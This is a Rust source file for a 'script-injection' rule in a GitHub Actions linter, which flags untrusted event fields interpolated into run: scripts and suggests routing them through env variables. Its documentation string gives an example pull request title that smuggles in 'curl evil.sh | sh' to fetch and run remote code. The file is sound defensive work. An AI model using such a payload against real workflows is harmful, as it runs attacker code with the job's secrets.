//! `script-injection`: text an outsider controls (`github.event.issue.title`, a branch
//! name, …) interpolated into a `run:` script.

use devplat_core::diag::Severity;

use crate::engine::{ActionFile, Cx, WorkflowFile};
use crate::exprs::SiteExprs;
use devplat_core::expr::github::analysis::Key;
use crate::github::contexts::{UNTRUSTED_EVENT_FIELDS, UNTRUSTED_GITHUB_FIELDS};
use crate::rules::{Example, Rule, RuleInfo};
use crate::schema::ExprSite;

pub const INFO: RuleInfo = RuleInfo {
    code: "script-injection",
    summary: "an untrusted `github.event` field (PR title or body, branch name, comment, …) interpolated into a `run:` script",
    severity: Severity::Error,
    docs: "`${{ }}` in `run:` is replaced before the shell sees the script, so a pull \
request titled `a\"; curl evil.sh | sh; \"` runs that command with the job's token and \
secrets. Pass the value through `env:` and use the variable (`\"$TITLE\"`): the shell \
then treats it as data. Fields an outsider controls: issue and PR titles and bodies, \
comment and review bodies, discussion titles and bodies, head branch names \
(`github.head_ref`, `pull_request.head.ref`), commit messages and author names, wiki \
page names.",
    bad: Example {
        files: &[
            (
                ".github/workflows/triage.yml",
                include_str!("../../tests/fixtures/script-injection/not-ok/.github/workflows/triage.yml"),
            ),
        ],
    },
    good: Example {
        files: &[
            (
                ".github/workflows/triage.yml",
                include_str!("../../tests/fixtures/script-injection/ok/.github/workflows/triage.yml"),
            ),
        ],
    },
    help_uri: crate::help_uri!("script-injection"),
};

pub struct ScriptInjection;
pub const RULE: ScriptInjection = ScriptInjection;

fn matches_field(path: &[&str], pattern: &str) -> bool {
    let pat: Vec<&str> = pattern.split('.').collect();
    path.len() >= pat.len()
        && pat
            .iter()
            .zip(path)
            .all(|(p, s)| *p == "*" || p.eq_ignore_ascii_case(s))
}

/// The untrusted field an expression path names, if any (`github.event.issue.title`).
pub fn untrusted(name: &str, path: &[&str]) -> Option<String> {
    if !name.eq_ignore_ascii_case("github") {
        return None;
    }
    match path {
        [first, rest @ ..] if first.eq_ignore_ascii_case("event") => UNTRUSTED_EVENT_FIELDS
            .iter()
            .find(|f| matches_field(rest, f))
            .map(|_| format!("github.{}", path.join("."))),
        [field] if UNTRUSTED_GITHUB_FIELDS.iter().any(|f| f.eq_ignore_ascii_case(field)) => Some(format!("github.{field}")),
        _ => None,
    }
}

fn check(cx: &mut Cx<'_>, sites: &[ExprSite<'_>], exprs: &[SiteExprs]) {
    for (site, an) in sites.iter().zip(exprs) {
        let is_script = site.key == "run" || (site.key == "script" && site.path.contains(".with."));
        if !is_script {
            continue;
        }
        for p in &an.exprs {
            for r in &p.refs.contexts {
                let segs: Vec<String> = r
                    .path
                    .iter()
                    .map(|s| match &s.key {
                        Key::Name(n) => n.clone(),
                        _ => "*".to_owned(),
                    })
                    .collect();
                let names: Vec<&str> = segs.iter().map(String::as_str).collect();
                let Some(field) = untrusted(&r.context, &names) else {
                    continue;
                };
                let var = names.last().map_or("VALUE".to_owned(), |l| l.to_ascii_uppercase().replace('-', "_"));
                cx.report(
                    INFO.diag(
                        an.inner_span(p, r.span.start, r.span.end),
                        format!("`{field}` is controlled by whoever opens the issue, pull request or comment, and is interpolated into a script"),
                    )
                    .with_help(format!("pass it through the environment: `env: {{ {var}: ${{{{ {field} }}}} }}` and use \"${var}\" in the script")),
                );
            }
        }
    }
}

impl Rule for ScriptInjection {
    fn info(&self) -> &'static RuleInfo {
        &INFO
    }
    fn workflow(&self, cx: &mut Cx<'_>, file: &WorkflowFile<'_>) {
        check(cx, &file.walk.expressions, &file.exprs);
    }
    fn action(&self, cx: &mut Cx<'_>, file: &ActionFile<'_>) {
        check(cx, &file.walk.expressions, &file.exprs);
    }
}
